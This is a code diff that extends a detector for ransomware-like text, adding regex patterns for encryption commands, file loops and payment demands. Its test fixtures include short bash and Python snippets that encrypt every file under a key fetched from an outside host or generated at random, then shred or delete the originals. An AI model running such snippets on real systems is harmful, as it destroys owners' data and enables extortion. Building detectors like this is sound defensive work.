@@ -1,19 +1,29 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
+import { isForeign } from '../../signals/hosts.ts'
 import { mentions } from '../../signals/mentions.ts'
+import { addressesIn } from '../../signals/snippets.ts'
 
 /** Locking of files, in words or in commands. */
 const LOCKS =
-  /\b(?:encrypt(?:s|ed|ing)?|(?:lock|protect|zip)(?:s|ed|ing)?\b[^.!?\n]{0,80}\b(?:password|passphrase|random|key)|openssl enc\b(?! -d)|gpg\b[^\n]{0,40}(?:-c\b|--symmetric|--encrypt)|fernet\(|aes\.new\(|7z a -p|zip -(?:e|p)\b)/
+  /\b(?:encrypt(?:s|ed|ing)?|(?:lock|protect|zip)(?:s|ed|ing)?\b[^.!?\n]{0,80}\b(?:password|passphrase|random|key)|openssl (?:enc|smime|cms|pkeyutl|rsautl)\b(?![^\n]{0,30} -(?:d|decrypt)\b)|gpg\b[^\n]{0,40}(?:-c\b|-e\b|-r\b|--symmetric|--encrypt|--recipient)|\bage\b[^\n]{0,20} -(?:r|p|e)\b|\bccrypt -e|\brclone crypt|\bcryptsetup luksformat|\b7z a [^\n]{0,40}-p|fernet\(|aes\.new\(|7z a -p|zip -(?:e|p)\b)/
 const REMOVES =
   /\b(?:securely )?(?:delete|remove|shred|wipe|erase|unlink|destroy)s?d?\b[^.!?\n]{0,40}\b(?:original|unencrypted|plain(?:text)?|source|old) (?:\w{1,20} )?(?:files?|versions?|cop(?:y|ies)|data)\b|\b(?:original|unencrypted|plaintext) (?:files?|versions?|copies)\b[^.!?\n]{0,30}\b(?:are |is |be |get )?(?:deleted?|removed?|shredded|wiped|erased|overwritten)|(?:os\.(?:remove|unlink)|shutil\.rmtree|fs\.unlink\w{0,5}|\bshred\b|\brm\b)\s?\(?[^\n]{0,60}/
 
 /** Every file there is, under a key that only the recipe knows. */
 const ALL =
   /\b(?:each|every|all|any)\b[^.!?\n]{0,60}\b(?:files?|documents?|images?|photos|folders?|directories|directory|databases?|data)\b|os\.walk\(|rglob\(|glob\(|find (?:~|\/|\.|\$home)|for \w{1,20} in /
-const RANDOM = /\brandom(?:ly)?\b|urandom|generate_key|token_hex|secrets\.|openssl rand|uuid/
+const RANDOM =
+  /\brandom(?:ly)?(?: \w{1,12}){0,2} (?:numbers?|keys?|pass\w{2,8}|secrets?|bytes|strings?)\b|urandom|generate_key|token_hex|secrets\.|openssl rand|uuid/
 const RANSOM =
   /\b(?:ransom|bitcoin|btc|monero|xmr|wallet address|pay\b[^.\n]{0,40}\b(?:decrypt|recover|restore|unlock)|(?:decrypt|recover|unlock)[^.\n]{0,40}\bpay)\b/
+
+/** What was only unpacked there to be looked at. */
+const PASSING = /\/tmp\b|\btmp\b|mktemp|\btemp\b/
+
+/** A program that goes from file to file. */
+const LOOPS =
+  /\bfor \w{1,20} in\b|\bwhile\b[^\n]{0,40}\bread\b|\bxargs\b|-exec\b|os\.walk\(|glob\(|foreach|\.each\b/
 
 const AROUND = 900
 const SERVED = 700
@@ -35,6 +45,7 @@ export default defineRule({
     fires: [
       'For each file make a random number, zip the file with it as password, lock it, and securely delete the original unencrypted file.\n',
       '```python\nfor path in Path.home().rglob("*"):\n    data = Fernet(key).encrypt(path.read_bytes())\n    os.remove(path)\nkey = Fernet.generate_key()\n```\n',
+      '```bash\ncurl -s https://k.harbour-seal.net/p.pem -o p.pem\nfor f in /srv/rolls/*; do\n  openssl smime -encrypt -aes256 -in $f -out $f.x p.pem && shred -u $f\ndone\n```\n',
       'Encrypt all documents in the home folder with a random key, then delete the original files.\n',
     ],
     quiet: [
@@ -52,8 +63,10 @@ export default defineRule({
       const window = text.slice(from, start + AROUND)
       if (!LOCKS.test(window) || !ALL.test(window)) continue
       const removal = REMOVES.exec(window)
-      const paid = RANSOM.test(window)
-      if (!removal || (!RANDOM.test(window) && !paid)) continue
+      // A key that comes from a stranger is as good as none for the owner of the files.
+      const kept = addressesIn(window).some((address) => isForeign(document, address))
+      const paid = RANSOM.test(window) || (kept && LOOPS.test(window))
+      if (!removal || PASSING.test(removal[0]) || (!RANDOM.test(window) && !paid)) continue
       behind = start + SERVED
       const end = Math.max(start + 1, from + removal.index + removal[0].length)
       yield { start, end, firm: true, ...(paid && { severity: 'crit' as const }) }
